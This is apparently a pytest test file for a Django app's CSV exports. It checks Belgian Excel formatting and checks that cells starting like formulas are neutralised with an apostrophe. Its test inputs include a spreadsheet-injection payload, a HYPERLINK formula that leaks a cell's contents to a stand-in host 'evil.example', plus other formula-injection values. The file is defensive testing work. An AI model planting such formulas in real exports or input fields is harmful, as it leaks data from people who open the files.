"""core/exports.py: every CSV export opens in a Belgian spreadsheet and never runs a formula
typed by a person."""

import pytest
from django.urls import reverse
from django.utils import timezone

from core.exports import Number, csv_response, safe_cell
from events.services import register
from figures.queries import FIGURES
from portions import services
from tests.factories import make_event
from tests.reading import read_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"Click")', "+32=1+1", "-1", "@x"]


def test_the_file_has_the_belgian_excel_preamble():
    response = csv_response("liste.csv", ["Nom", "Montant"], [["Amina Benali", Number("7,45")]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="liste.csv"'
    assert response.content == "\ufeffNom;Montant\r\nAmina Benali;7,45\r\n".encode()


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(value):
    response = csv_response("liste.csv", ["Nom"], [[value]])

    assert read_csv(response)[1] == ["'" + value]


@pytest.mark.parametrize("value", ["\tx", "\rx", "=1+1"])
def test_a_tab_a_carriage_return_or_an_equal_sign_first_is_never_a_formula(value):
    assert safe_cell(value) == "'" + value


def test_ordinary_text_and_numbers_are_written_as_they_are():
    assert safe_cell("Rosa Martínez") == "Rosa Martínez"
    assert safe_cell("a=b+c") == "a=b+c"
    assert safe_cell("") == ""
    assert safe_cell(None) is None
    assert safe_cell(-3) == -3
    assert safe_cell(Number("-7,45")) == "-7,45"  # an amount the app wrote: still a number


# Each export ----------------------------------------------------------------------------------


def test_names_typed_by_people_are_safe_in_the_session_csv(
    client_as, worked_example_cooked, people
):
    for key, name in zip(["ferhat", "sadika"], HOSTILE[:2], strict=True):
        people[key].person.display_name = name
        people[key].person.save(update_fields=["display_name"])

    url = reverse(
        "portions:session_csv", args=[worked_example_cooked.group.slug, worked_example_cooked.pk]
    )
    rows = read_csv(client_as("referent").get(url))

    assert rows[2] == ["'" + HOSTILE[0], "4", "7,45", "0,00", "-7,45"]
    assert rows[3] == ["'" + HOSTILE[1], "14", "26,05", "21,15", "-4,90"]


def test_names_typed_by_people_are_safe_in_the_ledger_csv(
    client_as, worked_example_cooked, member, referent
):
    member.display_name = "@SUM(1+1)"
    member.save(update_fields=["display_name"])
    services.settle(worked_example_cooked, by=referent)

    rows = read_csv(client_as("referent").get(reverse("portions:ledger_csv", args=["ca-chauffe"])))

    names = {row[1] for row in rows[1:]}
    assert "'@SUM(1+1)" in names and "@SUM(1+1)" not in names
    amounts = [row[4] for row in rows[1:] if row[1] == "'@SUM(1+1)"]
    assert "-18,61" in amounts  # her charge: a negative number, left as it is


def test_names_e_mails_and_phones_are_safe_in_the_registrations_csv(client_as, member):
    member.phone = "+32=1+1"
    member.save(update_fields=["phone"])
    event = make_event(title="Atelier conserves")
    workshop = event.workshops.create(slot="matin", title="-1", places=5)
    register(event, person=member)
    register(event, name=HOSTILE[0], email="=2+5@example.org", phone="@x", workshop=workshop)

    rows = read_csv(client_as("coordinator").get(f"/events/{event.pk}/registrations.csv"))

    assert [row[:4] for row in rows[1:]] == [
        ["Amina Benali", "amina@example.org", "'+32=1+1", ""],
        ["'" + HOSTILE[0], "'=2+5@example.org", "'@x", ""],
        ["'" + HOSTILE[0], "'=2+5@example.org", "'@x", "'-1"],
    ]


def test_every_cell_of_the_figures_csv_is_made_safe(client_as, monkeypatch):
    """The figures' labels are the app's own words, but they go through the same helper."""
    _label, *rest = FIGURES["active"]
    monkeypatch.setitem(FIGURES, "active", (HOSTILE[0], *rest))
    year = timezone.localdate().year

    rows = read_csv(client_as("coordinator").get(f"/figures/{year}.csv"))

    assert rows[1][0] == "'" + HOSTILE[0]
    assert rows[1][1] == "0"
